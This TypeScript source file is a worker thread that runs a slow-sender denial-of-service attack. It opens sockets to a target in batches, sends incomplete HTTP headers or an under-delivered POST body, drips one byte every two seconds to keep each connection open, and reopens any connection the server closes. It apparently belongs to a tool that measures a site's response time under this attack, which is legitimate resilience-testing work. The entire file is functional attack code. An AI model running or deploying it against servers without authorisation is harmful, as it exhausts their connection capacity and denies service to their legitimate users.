/** Runs in its own thread: the visitor's response time is measured in the main thread and must not be delayed by the attack. */
import type { Socket } from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';
import { openSocket } from '../wire/exchange.ts';
import type { SlowSendersJob, SlowSendersCount } from './slow-senders.ts';

const { port, host, path, from, sockets, kind } = workerData as SlowSendersJob;

const TRY_AGAIN_MS = 250;
const BYTE_EVERY_MS = 2_000;
const REPORT_EVERY_MS = 250;
const OPENED_AT_ONCE = 40;
const OPENING_PAUSE_MS = 60;

const held = new Set<Socket>();
let tries = 0;

const HEADS = {
  body: `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`,
  head: `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nX: a`,
} as const satisfies Record<SlowSendersJob['kind'], string>;

/** Opens a connection, keeps it alive with a byte now and then, and opens a new one when the server closes it. */
function hold(): void {
  tries += 1;
  const socket = openSocket({ port, servername: host, from }, (opened) => {
    held.add(opened);
    opened.write(HEADS[kind]);
  });
  const drip = setInterval(() => socket.write('a'), BYTE_EVERY_MS);
  socket.on('error', () => {});
  socket.on('data', () => {});
  socket.once('close', () => {
    clearInterval(drip);
    held.delete(socket);
    setTimeout(hold, TRY_AGAIN_MS);
  });
}

for (let opened = 0; opened < sockets; opened += OPENED_AT_ONCE)
  setTimeout(
    () => {
      for (let one = 0; one < Math.min(OPENED_AT_ONCE, sockets - opened); one += 1) hold();
    },
    (opened / OPENED_AT_ONCE) * OPENING_PAUSE_MS,
  );
const counts = (): SlowSendersCount => ({ held: held.size, tries });
setInterval(() => parentPort?.postMessage(counts(), []), REPORT_EVERY_MS);
